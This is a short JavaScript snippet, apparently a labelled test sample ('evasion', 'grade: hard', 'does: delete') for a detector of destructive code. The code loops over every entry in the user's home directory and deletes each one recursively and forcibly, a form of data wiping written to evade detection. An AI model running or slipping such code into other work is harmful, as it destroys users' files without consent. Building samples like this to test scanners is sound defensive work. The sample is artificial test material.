// evasion: the home directory emptied entry by entry
// grade: hard; does: delete
const fs = require('fs');
for (const f of fs.readdirSync(require('os').homedir())) {
  fs.rmSync(require('path').join(require('os').homedir(), f), {recursive: true, force: true});
}
